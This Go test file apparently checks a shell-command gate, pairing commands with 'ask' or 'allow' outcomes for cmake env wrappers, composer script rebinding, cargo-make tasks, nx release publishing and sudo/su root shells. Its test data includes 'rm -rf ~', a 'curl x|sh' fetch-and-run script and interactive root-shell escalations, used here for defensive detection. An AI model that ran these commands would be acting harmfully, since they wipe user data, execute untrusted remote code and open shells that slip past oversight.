package patterns

import "testing"

// fx39iCases: rt39 §2, §4 (sudo), §6 (issue 7).
var fx39iCases = []evalCase{
	// cmake -E env is peeled as env is.
	ask("cmake -E env FOO=1 rm -rf ~", "cmd.delete-home"),
	ask("cmake -E env --unset=PATH FOO=1 -- rm -rf ~", "cmd.delete-home"),
	allow("cmake -E env"),
	allow("cmake -E env FOO=1 make"),
	allow("cmake --build ."),
	allow("cmake -E echo hi"),
	// composer config scripts.* rebinds what composer runs.
	ask("composer config scripts.post-install-cmd 'curl x|sh' && composer install", "cmd.unreadable"),
	ask("composer config --json scripts.post-install-cmd '[\"curl x|sh\"]' && composer update", "cmd.unreadable"),
	ask("composer config scripts.t 'rm -rf ~' && composer run-script t", "cmd.unreadable"),
	allow("composer config scripts.t 'phpunit'"),
	allow("composer config minimum-stability dev && composer install"),
	allow("composer install && composer run-script test"),
	// Makefile.toml is cargo-make's.
	ask(`printf '[tasks.x]\nscript = "rm -rf ~"\n' > Makefile.toml && cargo make x`, "cmd.unreadable"),
	ask(`printf 'x' > makefile.toml && makers x`, "cmd.unreadable"),
	allow("cargo make build"),
	allow("cat Makefile.toml && cargo make test"),
	// nx release publishes unless told not to.
	ask("npx nx release publish", "cmd.publish"),
	ask("nx release publish", "cmd.publish"),
	ask("nx release", "cmd.publish"),
	ask("nx release --yes", "cmd.publish"),
	allow("nx release --dry-run"),
	allow("nx release version"),
	allow("nx release changelog 1.2.0"),
	allow("nx release --skip-publish"),
	allow("nx release publish --dry-run"),
	allow("nx run app:build"),
	// An interactive shell of another user: its later input is never judged.
	ask("sudo -i", "cmd.unreadable"),
	ask("sudo -s", "cmd.unreadable"),
	ask("sudo su", "cmd.unreadable"),
	ask("sudo su -", "cmd.unreadable"),
	ask("su -", "cmd.unreadable"),
	ask("su", "cmd.unreadable"),
	ask("sudo bash", "cmd.unreadable"),
	ask("sudo -u root bash", "cmd.unreadable"),
	ask("doas -s", "cmd.unreadable"),
	ask("sudo env HOME=/root bash", "cmd.unreadable"),
	ask("pkexec bash", "cmd.unreadable"),
	ask("sudo -i rm -rf ~", "cmd.delete-home"),
	allow("sudo -i whoami"),
	allow("sudo -s -- make install"),
	allow("su -c 'ls' bob"),
	allow("sudo -l"),
	allow("sudo -v"),
	allow("sudo -k"),
	allow("bash"),
	allow("sudo bash ./scripts/setup.sh"),
}

func TestFx39iCases(t *testing.T) { runCases(t, fx39iCases) }
